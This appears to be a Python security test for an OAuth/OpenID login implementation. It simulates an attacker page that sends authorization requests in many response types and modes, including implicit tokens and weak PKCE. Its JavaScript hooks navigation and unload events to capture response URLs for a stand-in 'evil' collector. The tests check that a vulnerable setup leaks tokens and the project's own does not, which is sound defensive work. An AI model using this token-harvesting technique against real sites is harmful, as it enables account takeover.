"""A script goes to the provider with requests of its own, in every response type and mode that any provider supports,
and reads what the next documents in the same tab can still find out about the response.
"""

import contextlib

from tests.attacks.speech import ADDRESS, TRACES, at_site, mark, said
from tests.lanes.driver import Left

MODES = (
    {"response_mode": "query"},
    {"response_mode": "fragment"},
    {"response_mode": "form_post"},
    {"response_mode": "web_message"},
    {"response_mode": "query.jwt"},
    {"response_mode": "fragment.jwt"},
    {"response_type": "token"},
    {"response_type": "id_token"},
    {"response_type": "code id_token token"},
    {"response_type": "none"},
    {"code_challenge_method": "plain"},
    {"code_challenge": "", "code_challenge_method": ""},
)
LEAVE = """
  for (const type of ["pageswap", "pagehide", "navigate", "navigatesuccess", "beforeunload", "unload", "visibilitychange"]) {
    for (const target of [globalThis, document, globalThis.navigation]) target?.addEventListener(type, (event) =>
      evil.note(type, event.activation?.entry?.url, event.destination?.url));
  }
  setTimeout(() => location.assign(address(more)));"""
READ = said(TRACES, "return traces();")
# the visitor goes on in the same tab, by the page's own links
FOLLOW = """async () => {
  const link = document.querySelector("nav a[href]");
  if (link) link.click();
}"""


def act(scene):
    visitor, subject = scene.visitor, scene.subject
    subject.sign_in(visitor)
    for more in MODES:
        subject.again(visitor)
        mark(visitor)
        scene.run(said(ADDRESS, f"const more = {more!r};", LEAVE), leaves=True)
        try:
            at_site(visitor, subject)
        except AssertionError:
            continue  # the provider does not support such a request
        for _ in range(3):
            scene.run(READ)
            visitor.rest(0.2)
        with contextlib.suppress(Left):
            visitor.run(FOLLOW)
        visitor.rest(0.5)
        scene.run(READ)
        visitor.go(subject.url + "/")
        scene.run(READ)
        scene.collect()


def test_page_held(assault, page_held):
    assert assault(page_held).stolen


def test_ours(assault, ours):
    outcome = assault(ours)
    assert ours.codes() > 1, "no code was ever sent to the attacker's request"
    assert outcome.stolen == ()
